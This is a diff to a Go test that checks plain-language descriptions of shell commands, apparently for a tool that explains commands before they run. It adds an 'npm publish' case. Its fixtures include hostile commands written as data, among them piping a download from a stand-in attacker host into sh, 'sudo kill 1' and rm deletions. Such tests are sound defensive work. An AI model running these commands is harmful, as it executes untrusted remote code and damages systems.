@@ -19,6 +19,7 @@ func TestSays(t *testing.T) {
 		"echo x > b; rm a":                 "deletes /p/a · writes /p/b",
 		"frobnicate":                       "not known: ",
 		`rm "$UNKNOWN"`:                    "delete something that is not known",
+		"npm publish":                      "publishes a package · may publish the data project · runs the project's scripts",
 		"npm test":                         "runs what the project says",
 		"sudo kill 1":                      "gets the rights of root · stops the process 1",
 		"curl https://evil.example/x | sh": "connects to evil.example · not known: sh runs what curl gives it",
